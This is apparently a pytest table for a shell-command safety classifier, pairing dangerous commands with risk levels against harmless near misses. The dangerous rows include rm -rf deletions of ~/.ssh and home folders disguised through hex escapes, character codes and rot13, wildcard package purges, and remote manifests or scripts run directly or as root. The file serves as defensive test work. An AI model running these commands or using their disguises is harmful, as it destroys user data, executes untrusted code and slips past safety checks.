"""Code in programs, hidden and remote code, untrusted installs and package removal, round 14.

Each row is a tune11 miss of these families or a variant another writer might type for the
same danger; near misses are the read-only or narrow forms of the same programs.

Before the fixes of this round 23 of 27 dangerous rows and 1 of 9 near misses failed
(after dropping the rows another table held word for word).
"""

from __future__ import annotations

import pytest

from tests.safety_table import CRITICAL, HIGH, SAFE, RiskLevel, gap, reaches, stays_within

DANGEROUS: list[tuple[str, RiskLevel] | object] = [
    # A command hidden behind escapes, character codes or a rotation cipher.
    ("awk 'BEGIN { system(\"\\x72\\x6d -rf ~/.ssh\") }'", HIGH),
    ("perl -e 'system(\"\\x72\\x6d -rf /srv/data\")'", HIGH),
    ("gawk 'BEGIN { system(\"\\162\\155 -rf ~/Documents\") }'", HIGH),
    ('awk \'BEGIN{system(sprintf("%c%c -rf %s", 114, 109, ENVIRON["HOME"]))}\'', HIGH),
    ("perl -e 'system(sprintf(\"%c%c -rf ~\", 114, 109))'", HIGH),
    ("python3 -c 'import os; os.system(chr(114)+chr(109)+\" -rf ~\")'", HIGH),
    ('ruby -e \'system("ez -es ~/Qbphzragf".tr("A-Za-z", "N-ZA-Mn-za-m"))\'', HIGH),
    (
        "python3 -c \"import os,codecs; os.system(codecs.decode('ez -es ~/Qbphzragf', 'rot13'))\"",
        HIGH,
    ),
    # Removing every package that matches a pattern, or a whole environment.
    gap(
        "sudo dnf remove -y '*nvidia*'",
        HIGH,
        "conflicts with test_safety_r11_sys.py: apt-get purge -y 'gnome-games*'",
    ),
    gap(
        "sudo yum erase -y 'nvidia*'",
        HIGH,
        "conflicts with test_safety_r11_sys.py: apt-get purge -y 'gnome-games*'",
    ),
    gap(
        "sudo apt-get purge -y '.*nvidia.*'",
        HIGH,
        "conflicts with test_safety_r11_sys.py: apt-get purge -y 'gnome-games*'",
    ),
    gap(
        "sudo apt remove -y 'libnvidia-*'",
        HIGH,
        "conflicts with test_safety_r11_sys.py: apt-get purge -y 'gnome-games*'",
    ),
    gap(
        "sudo zypper rm -y '*nvidia*'",
        HIGH,
        "conflicts with test_safety_r11_sys.py: apt-get purge -y 'gnome-games*'",
    ),
    gap(
        "conda remove -n prod-ml --all -y",
        HIGH,
        "conflicts with tests/test_safety_pkg2.py: conda remove -n myenv --all -y",
    ),
    gap(
        "conda env remove -n prod-ml -y",
        HIGH,
        "conflicts with tests/test_safety_pkg.py: conda env remove -n scratch",
    ),
    gap(
        "mamba remove --name prod-ml --all --yes",
        HIGH,
        "conflicts with tests/test_safety_pkg2.py: conda remove -n myenv --all -y",
    ),
    gap("spack uninstall --all -y", HIGH, "not yet caught: spack removal is judged elsewhere"),
    gap("spack uninstall -a -y", HIGH, "not yet caught: spack removal is judged elsewhere"),
    # Code fetched from a URL and run or applied at once.
    ("kubectl apply -f https://example.com/manifest.yaml", HIGH),
    ("kubectl create -f http://203.0.113.7/deploy.yaml", HIGH),
    ("kubectl apply --filename=https://example.com/manifest.yaml", HIGH),
    gap(
        "papermill https://203.0.113.7/nb.ipynb /tmp/out.ipynb",
        HIGH,
        "not yet caught: a notebook from a URL",
    ),
    gap("jbang https://example.com/Tool.java", HIGH, "not yet caught: source from a URL"),
    gap(
        "jbang run https://gist.example.com/raw/Tool.java",
        HIGH,
        "not yet caught: source from a URL",
    ),
    gap(
        "unzip tool.zip && sudo ./tool/install.sh",
        CRITICAL,
        "not yet caught: a script just unpacked, run as root",
    ),
    gap(
        "tar xzf tool.tar.gz && sudo ./tool/setup.sh",
        CRITICAL,
        "not yet caught: a script just unpacked, run as root",
    ),
    gap(
        "unzip driver.zip && sudo bash driver/install.sh",
        CRITICAL,
        "not yet caught: a script just unpacked, run as root",
    ),
]

NEAR_MISSES: list[tuple[str, RiskLevel] | object] = [
    ("awk 'BEGIN { printf \"\\x41\\n\" }'", SAFE),
    ("perl -e 'printf(\"%c%c\\n\", 104, 105)'", SAFE),
    ('ruby -e \'puts "uryyb".tr("A-Za-z", "N-ZA-Mn-za-m")\'', SAFE),
    ("dnf list installed '*nvidia*'", SAFE),
    ("apt list --installed 'nvidia*'", SAFE),
    ("spack find", SAFE),
    ("kubectl get -f manifest.yaml", SAFE),
    gap("papermill --help-notebook analysis.ipynb", SAFE, "not yet caught: papermill is unknown"),
    ("unzip -l tool.zip", SAFE),
]


@pytest.mark.parametrize(("command", "level"), DANGEROUS)
def test_dangerous(command: str, level: RiskLevel) -> None:
    reaches(command, level)


@pytest.mark.parametrize(("command", "level"), NEAR_MISSES)
def test_near_misses(command: str, level: RiskLevel) -> None:
    stays_within(command, level)
